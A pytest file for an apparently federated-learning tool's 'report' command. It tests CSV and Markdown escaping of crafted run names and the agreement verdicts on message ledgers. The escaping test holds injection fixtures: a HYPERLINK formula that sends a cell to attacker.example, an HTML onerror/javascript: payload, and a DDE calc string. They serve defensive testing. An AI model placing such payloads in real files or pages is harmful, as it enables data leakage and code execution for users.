"""`fedhop report` on runs whose names and metric names a participant chose (issue 44, item 8;
red team partial: `=HYPERLINK(...)` run names written as live formula cells in the CSV, raw HTML
in report.md), and the agreement verdict it prints (explained losses agree).

The command runs as a user runs it (`python -m fedhop.deploy.cli.cli report`, its own process, from
a temporary folder with relative paths).  CSV: every cell that starts like a formula (= + - @,
tab, carriage return: OWASP's CSV-injection rule) starts with a single quote, numbers stay
numbers.  report.md: names are literal text (< > & as entities, Markdown punctuation escaped,
line breaks as spaces), so no tag, link or extra table cell comes out of a name."""
from __future__ import annotations

import csv
import dataclasses
import subprocess
import sys

from fedhop.common.records.runstore import RunStore
from tests.test_report import exchange, msg, write_run

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
HTML = '<img src=x onerror=alert(1)>[docs](javascript:alert(2))|x\n# heading'
METRIC = "@SUM(1+1)*cmd|' /C calc'!A0"


def _number(cell: str) -> bool:
    """A cell a spreadsheet reads as a number (a negative one starts with -, and is no formula)."""
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _report(cwd, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "fedhop.deploy.cli.cli", "report", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=300)


def test_crafted_names_are_inert_in_the_csv_and_literal_in_report_md(tmp_path):
    rec = [r for k in (1, 2) for r in exchange(f"m{k}", k, "client-1", "server", "client-server")]
    write_run(tmp_path / "f", name=FORMULA, algorithm="+cmd", topology="star",
              metrics=[{"test_accuracy": 0.5, METRIC: -1.5}, {"test_accuracy": 0.6, METRIC: -2.5}], records=rec)
    write_run(tmp_path / "h", name=HTML, algorithm="fedavg", topology="-star",
              metrics=[{"test_accuracy": 0.4}, {"test_accuracy": 0.7}], records=rec)
    res = _report(tmp_path, "f", "h", "--out", "rep", "--csv", "rep/rounds.csv")
    assert res.returncode == 0, res.stderr[-2000:]
    with open(tmp_path / "rep" / "rounds.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)], rows
    header = rows[0]
    assert "'" + METRIC in header, header
    by_run = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert set(by_run) == {"'" + FORMULA, HTML}, list(by_run)
    # a negative number stays a number (it is written as a float, not as text)
    assert float(by_run["'" + FORMULA]["'" + METRIC]) == -2.5
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "<img" not in md and "](javascript" not in md and "\n# heading" not in md, md
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;\\[docs\\]\\(javascript:alert\\(2\\)\\)\\|x \\# heading" in md, md
    table = [ln for ln in md.splitlines() if ln.startswith("|")]
    # every row of the table has the header's cells: an escaped | is no cell break
    assert len({ln.replace("\\|", "").count("|") for ln in table}) == 1, table
    assert "=HYPERLINK\\(" in md


def _explained_and_unexplained(tmp_path):
    """Two runs: in 'lossy' the one one-sided record is the reply to a request whose sender
    recorded it lost (the caller saw the call fail: an explained loss); in 'broken' it is a
    result nobody recorded losing."""
    base = [r for k in (1, 2) for r in exchange(f"m{k}", k, "client-1", "server", "client-server")]
    lost_req = [dataclasses.replace(msg("q3", 3, "server", "client-1", "client-server", "down", 10, 20, 25, role),
                                    status="lost" if role == "sender" else "ok") for role in ("sender", "receiver")]
    lone_reply = [msg("q3.reply", 3, "client-1", "server", "client-server", "up", 10, 20, 25, "sender")]
    write_run(tmp_path / "lossy", name="lossy", algorithm="fedavg", topology="star",
              metrics=[{"test_accuracy": 0.5}, {"test_accuracy": 0.6}], records=base + lost_req + lone_reply)
    lone_result = [msg("r3.reply", 3, "client-1", "server", "client-server", "up", 10, 20, 25, "sender")]
    write_run(tmp_path / "broken", name="broken", algorithm="fedavg", topology="star",
              metrics=[{"test_accuracy": 0.5}, {"test_accuracy": 0.6}], records=base + lone_result)


def test_the_report_counts_an_explained_loss_as_agreement_and_an_unexplained_one_not(tmp_path):
    _explained_and_unexplained(tmp_path)
    res = _report(tmp_path, "lossy", "broken", "--out", "rep")
    assert res.returncode == 0, res.stderr[-2000:]
    rows = {ln.split()[0]: ln for ln in res.stdout.splitlines() if ln.split()[:1] in (["lossy"], ["broken"])}
    assert rows["lossy"].rstrip().endswith(" agree") and rows["broken"].rstrip().endswith("DISAGREE"), res.stdout
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "- lossy: sender and receiver records agree" in md and "1 one-sided explained by a recorded loss" in md
    assert "- broken: sender and receiver records DISAGREE" in md and "1 unexplained" in md, md



def test_a_run_that_ended_early_has_its_in_flight_messages_said_so_not_a_disagreement(tmp_path):
    """A run that did not complete (stopped, failed, no summary) whose only one-sided record is
    a message in flight is "in flight", with the line `fedhop run` prints after a stop; the same
    records in a completed run, or a stopped run whose two records of one message differ in bytes,
    are still DISAGREE."""
    import json
    base = [r for k in (1, 2) for r in exchange(f"m{k}", k, "client-1", "server", "client-server")]
    lone = [msg("r3.reply", 3, "client-1", "server", "client-server", "up", 10, 20, 25, "sender")]
    differ = [dataclasses.replace(r, framed_bytes=r.framed_bytes + (r.role == "receiver"))
              for r in exchange("m3", 3, "client-1", "server", "client-server")]
    for name, records, status in (("early", base + lone, "stopped"), ("late", base + lone, "completed"),
                                  ("bytes", base + lone + differ, "stopped"), ("nosummary", base + lone, None)):
        write_run(tmp_path / name, name=name, algorithm="fedavg", topology="star",
                  metrics=[{"test_accuracy": 0.5}, {"test_accuracy": 0.6}], records=records)
        with RunStore(tmp_path / name / "run.db") as store:
            store.finish_run(status or "failed")
        summary_file = tmp_path / name / "summary.json"
        if status is None:
            summary_file.unlink()
        else:
            summary_file.write_text(json.dumps(dict(json.loads(summary_file.read_text()), status=status)))
    res = _report(tmp_path, "early", "late", "bytes", "nosummary", "--out", "rep")
    assert res.returncode == 0, res.stderr[-2000:]
    rows = {ln.split()[0]: ln.rstrip() for ln in res.stdout.splitlines()
            if ln.split()[:1] in (["early"], ["late"], ["bytes"], ["nosummary"])}
    assert rows["early"].endswith(" in flight") and rows["nosummary"].endswith(" in flight"), res.stdout
    assert rows["late"].endswith("DISAGREE") and rows["bytes"].endswith("DISAGREE"), res.stdout
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "- early: 4 messages recorded by both ends; 1 recorded only by their sender" in md, md
    assert "in flight when the processes stopped" in md and "- bytes: sender and receiver records DISAGREE" in md

def test_the_verdict_in_numbers_and_beyond_the_classification_limit(tmp_path):
    from fedhop.server.agreement import ledger_verdict
    _explained_and_unexplained(tmp_path)
    store = RunStore(tmp_path / "lossy" / "run.db", create=False)
    try:
        raw = store.check_agreement()
        v = ledger_verdict(store)
        over = ledger_verdict(store, classify_limit=0)
    finally:
        store.close()
    assert not raw.ok and raw.sender_only == ["q3.reply"]      # what summary.json and the report used to say
    assert v.ok and (v.sender_only, v.lost, v.explained, v.unexplained, v.no_ledger) == (1, 0, 1, 0, 0), v
    # too many one-sided records to classify one by one (a crafted ledger): counted as unexplained, said so
    assert not over.ok and not over.classified and over.unexplained == 1 and "not classified" in over.summary()
